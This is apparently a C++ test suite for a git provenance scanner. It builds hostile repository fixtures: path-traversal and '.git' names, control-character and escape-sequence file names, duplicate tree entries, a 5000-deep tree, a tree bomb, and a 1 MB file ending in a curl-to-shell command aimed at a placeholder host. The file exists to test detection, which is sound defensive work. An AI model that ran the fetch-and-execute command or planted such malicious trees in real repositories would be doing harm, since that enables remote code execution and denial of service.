// Hostile trees: names git would refuse, duplicates, disorder, depth, and the report formats
// that must carry such names without letting them inject anything.
#include "tests/hostile/hostile.h"

using namespace provscan::test;
using namespace provscan::test::hostile;

namespace {

bool has_raw_control(const std::string& s, bool allow_newlines) {
  for (unsigned char c : s) {
    if (allow_newlines && (c == '\n' || c == '\r')) continue;
    if (c < 0x20 && c != '\t') return true;
    if (c == 0x7f) return true;
  }
  return false;
}

}  // namespace

TEST_CASE("hostile: names git refuses are findings, reported byte-exactly, and their content is scanned") {
  using namespace std::string_literals;
  FixtureRepo repo;
  const std::string c1 = repo.commit("one", {{"README", "hello\n"}});
  const std::string pipe = repo.write_blob(kPipe);
  const std::string inner = repo.write_raw_tree({{"100644", "config", pipe}});
  const std::map<std::string, std::string> names = {
      {"../x", "a name is '..': the path leaves its folder"},
      {".GIT", "a name is '.git' to some file system: checking it out would write into the git directory"},
      {"new\nline.sh", "a name holds the control character 0x0a"},
      {"esc\x1b[31mred.sh", "a name holds the control character 0x1b"},
      {"bad\xff\xfe.sh", "a name is not valid UTF-8"},
      {"back\\slash.sh", "a name holds a backslash (a path separator on Windows)"},
  };
  std::vector<FixtureRepo::RawEntry> entries = {{"100644", "README", repo.write_blob("hello\n")},
                                                {"40000", ".git", inner}};
  for (const auto& [name, why] : names) entries.push_back({"100644", name, pipe});
  const std::string tree = repo.write_raw_tree(entries);
  const std::string c2 = repo.write_object("commit", commit_text(tree, {c1}, "names"));
  repo.set_head_commit(c2);

  TempDir out;
  const Run run = scan(repo.path(), {"--format", "sarif", "--format", "csv", "--format", "github", "--format",
                                     "markdown", "--output", out.path()});
  CHECK(run.cli.exit_code == 1);
  const json doc = json::parse(read_text(out.path() + "/provscan.json"));
  std::map<std::string, std::string> found;
  for (const json& f : findings_of(doc, "provenance.hostile-path")) {
    CHECK(f["severity"] == "high");
    CHECK(f["engine"] == "provenance");
    CHECK(f["commit"] == c2);
    found[f["path"].get<std::string>()] = f["message"].get<std::string>();
  }
  std::map<std::string, std::string> expected;
  for (const auto& [name, why] : names) expected[name] = why;
  expected[".git/config"] = "a name is '.git' to some file system: checking it out would write into the git directory";
  // Invalid UTF-8 is carried as the text \xNN (reports/report.h); everything else is exact.
  expected.erase("bad\xff\xfe.sh");
  expected["bad\\xff\\xfe.sh"] = "a name is not valid UTF-8";
  REQUIRE(found.size() == expected.size());
  for (const auto& [name, why] : expected) {
    const std::string& path = name;  // clang 14: INFO's lambda cannot capture a structured binding
    INFO(path);
    REQUIRE(found.count(path));
    CHECK(found[path].ends_with(why));
  }
  // Their content is scanned like any other file's.
  CHECK(findings_of(doc, "t.pipe-to-shell").size() == names.size() + 1);

  // No format lets a raw control byte through.
  CHECK_FALSE(has_raw_control(read_text(out.path() + "/provscan.json"), true));
  CHECK_FALSE(has_raw_control(read_text(out.path() + "/provscan.sarif"), true));
  const std::string csv = read_text(out.path() + "/findings.csv");
  const std::string gh = read_text(out.path() + "/provscan-annotations.txt");
  const std::string md = read_text(out.path() + "/report.md");
  CHECK_FALSE(has_raw_control(csv, true));
  CHECK_FALSE(has_raw_control(gh, true));
  CHECK_FALSE(has_raw_control(md, true));
  CHECK(gh.find("\x1b") == std::string::npos);
  // Each annotation stays on its own line: a newline in a path cannot start a workflow command.
  for (std::size_t pos = 0; (pos = gh.find('\n', pos)) != std::string::npos; ++pos) {
    const std::string next = gh.substr(pos + 1, 2);
    CHECK((next.empty() || next == "::"));
  }
  CHECK(json::parse(read_text(out.path() + "/provscan.sarif"))["runs"][0]["results"].size() ==
        doc["findings"].size());
}

TEST_CASE("hostile: duplicated and unsorted tree entries are read, reported, and the duplicate is a finding") {
  FixtureRepo repo;
  const std::string c1 = repo.commit("one", {{"README", "hello\n"}});
  const std::string honest = repo.write_blob("echo fine\n");
  const std::string evil = repo.write_blob(kPipe);
  const std::string tree = repo.write_raw_tree({{"100644", "z.sh", honest},
                                                {"100644", "run.sh", honest},
                                                {"100644", "run.sh", evil},
                                                {"100644", "README", repo.write_blob("hello\n")}});
  const std::string c2 = repo.write_object("commit", commit_text(tree, {c1}, "twice"));
  repo.set_head_commit(c2);
  const Run run = scan(repo.path());
  CHECK(run.cli.exit_code == 1);
  const auto m = skipped_of(run.doc, "malformed-tree");
  REQUIRE(m.size() == 1);
  CHECK(m[0]["object"] == tree);
  CHECK(m[0]["reason"] == "tree object lists a name twice; tree object entries are not in git's order: every entry "
                          "is still compared and scanned");
  CHECK(m[0]["incomplete"] == false);
  const auto dup = findings_of(run.doc, "provenance.hostile-path");
  REQUIRE(dup.size() == 2);  // both entries named run.sh
  CHECK(dup[0]["path"] == "run.sh");
  CHECK(dup[0]["message"].get<std::string>().ends_with("the tree lists this name twice"));
  const auto f = findings_of(run.doc, "t.pipe-to-shell");  // the second run.sh is not hidden by the first
  REQUIRE(f.size() == 1);
  CHECK(f[0]["path"] == "run.sh");
}

TEST_CASE("hostile: a tree nested 5000 deep stops at depth 4096, is reported, and is fast") {
  FixtureRepo repo;
  const std::string c1 = repo.commit("one", {{"README", "hello\n"}});
  std::string t = repo.write_raw_tree({{"100644", "deep.sh", repo.write_blob(kPipe)}});
  for (int i = 0; i < 5000; ++i) t = repo.write_raw_tree({{"40000", "d", t}});
  const std::string tree = repo.write_raw_tree(
      {{"100644", "README", repo.write_blob("hello\n")}, {"100644", "top.sh", repo.write_blob(kPipe)}, {"40000", "d", t}});
  repo.set_head_commit(repo.write_object("commit", commit_text(tree, {c1}, "deep")));
  const Run run = scan(repo.path(), {"--fail-on", "critical"});
  CHECK(run.cli.exit_code == 3);
  const auto d = skipped_of(run.doc, "tree-depth");
  REQUIRE(d.size() == 1);
  CHECK(d[0]["reason"] == "tree nested deeper than 4096 levels");
  CHECK(d[0]["path"].get<std::string>().size() == 4097 * 2 - 1);  // d/d/…/d, 4097 names
  CHECK(findings_of(run.doc, "t.pipe-to-shell").size() == 1);  // top.sh
  MESSAGE("5000-deep tree: ", run.cli.seconds, " s");
  CHECK(run.cli.seconds < 30);
}

TEST_CASE("hostile: a one-character rule on a large blob is capped per rule and the cap names the rule") {
  FixtureRepo repo;
  const std::string c1 = repo.commit("one", {{"README", "hello\n"}});
  std::string lines;
  for (int i = 0; i < 200000; ++i) lines += "a\n";
  const std::string one_line(8u << 20, 'a');  // 8 MiB on one line: 8 million candidate matches
  repo.commit("two", {{"lines.txt", lines}, {"one-line.txt", one_line}});
  TempDir tmp;
  const std::string rules = tmp.file("one-char.yaml", R"(rules:
  - id: t.letter-a
    engine: signature
    severity: low
    message: "the letter a"
    literals: ["a"]
)");
  const Run run = scan(repo.path(), {"--rules", rules, "--fail-on", "critical", "--max-blob-bytes", "16777216"});
  std::map<std::string, json> cap;
  for (const json& s : skipped_of(run.doc, "match-cap")) cap[s["path"].get<std::string>()] = s;
  REQUIRE(cap.size() == 2);
  CHECK(cap["lines.txt"]["reason"] == "rule t.letter-a matched more than 1000 lines: further hits not reported");
  CHECK(cap["lines.txt"]["incomplete"] == false);
  CHECK(cap["one-line.txt"]["reason"].get<std::string>().find("rule t.letter-a matching when the cap was reached") !=
        std::string::npos);
  CHECK(cap["one-line.txt"]["incomplete"] == true);
  CHECK(run.cli.exit_code == 3);
  std::size_t hits = findings_of(run.doc, "t.letter-a").size();
  CHECK(hits == 1000 + 1);  // 1000 lines of lines.txt, line 1 of one-line.txt
  MESSAGE("one-char rule: ", run.cli.seconds, " s, peak RSS ", run.cli.max_rss_kib / 1024, " MiB");
  (void)c1;
}

TEST_CASE("hostile: a 1 MB single-line file is scanned whole, with a bounded snippet") {
  FixtureRepo repo;
  repo.commit("one", {{"README", "hello\n"}});
  std::string line(1u << 20, 'x');
  line.replace(line.size() - 40, 35, "curl -s https://x.invalid/i | sh  ");
  repo.commit("two", {{"min.js", line}});
  const Run run = scan(repo.path());
  CHECK(run.cli.exit_code == 1);
  const auto f = findings_of(run.doc, "t.pipe-to-shell");
  REQUIRE(f.size() == 1);
  CHECK(f[0]["line"] == 1);
  CHECK(f[0]["snippet"].get<std::string>().size() <= 300);
  CHECK(run.cli.seconds < 20);
}

TEST_CASE("hostile: a tree bomb (each of 40 trees lists the one below twice) stops at the diff budget, reported") {
  // 2^40 paths from 41 small tree objects: the budget of visited entries and path bytes stops
  // the comparison long before time or memory run out; the rest of the commit is still scanned.
  FixtureRepo repo;
  const std::string c1 = repo.commit("one", {{"README", "hello\n"}});
  std::string t = repo.write_raw_tree({{"100644", "f", repo.write_blob("hello\n")}});
  for (int i = 0; i < 40; ++i) t = repo.write_raw_tree({{"40000", "a", t}, {"40000", "b", t}});
  const std::string tree = repo.write_raw_tree({{"100644", "README", repo.write_blob("hello\n")},
                                                {"40000", "bomb", t},
                                                {"100644", "top.sh", repo.write_blob(kPipe)}});
  repo.set_head_commit(repo.write_object("commit", commit_text(tree, {c1}, "bomb")));
  const Run run = scan(repo.path(), {"--fail-on", "critical"});
  CHECK(run.cli.exit_code == 3);
  const auto s = skipped_of(run.doc, "tree-size");
  REQUIRE(s.size() == 1);
  CHECK(s[0]["incomplete"] == true);
  CHECK(s[0]["reason"].get<std::string>().find("tree comparison stopped after") != std::string::npos);
  MESSAGE("tree bomb: ", run.cli.seconds, " s, peak RSS ", run.cli.max_rss_kib / 1024, " MiB");
  CHECK(run.cli.max_rss_kib < kMaxRssKib);
}
